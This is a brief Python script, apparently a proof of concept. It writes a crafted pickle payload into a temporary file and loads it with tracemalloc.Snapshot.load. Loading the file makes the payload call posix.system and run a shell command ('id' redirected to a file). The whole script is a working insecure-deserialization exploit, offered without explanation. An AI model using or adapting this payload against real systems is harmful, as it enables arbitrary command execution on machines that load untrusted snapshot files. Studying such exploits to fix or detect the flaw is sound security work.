import tempfile
from tracemalloc import Snapshot as S
f = tempfile.NamedTemporaryFile(buffering=0)
f.write(b"\x80\x02cposix\nsystem\nX\x05\x00\x00\x00id>pf\x85R.")
load = S.load
load(f.name)
